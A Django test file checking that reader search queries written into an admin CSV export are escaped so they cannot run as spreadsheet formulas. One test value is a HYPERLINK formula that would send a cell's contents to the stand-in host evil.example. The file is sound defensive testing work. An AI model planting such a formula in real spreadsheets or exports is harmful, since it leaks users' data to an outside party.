"""Reader input written to the admin's CSV exports cannot run as a spreadsheet formula."""

import csv
import io

from django.test import Client

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")'
REPORT = "/admin/reports/searches-without-results/"


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_a_formula_searched_for_is_exported_as_text(db, admin_client):
    for query in (FORMULA, "@SUM(1,2)", "+1", "-1+1"):
        assert Client().get("/search/", {"q": query}).status_code == 200

    rows = csv_rows(admin_client.get(REPORT, {"export": "csv"}))
    assert rows[0] == ["Search", "Times searched", "Last searched"]
    searches = {row[0] for row in rows[1:]}
    # The log keeps the query lower-cased; the export puts a quote before each formula.
    assert searches == {"'" + FORMULA.lower(), "'@sum(1,2)", "'+1", "'-1+1"}
    # A genuine number is no formula: the count is written as it is.
    assert {row[1] for row in rows[1:]} == {"1"}
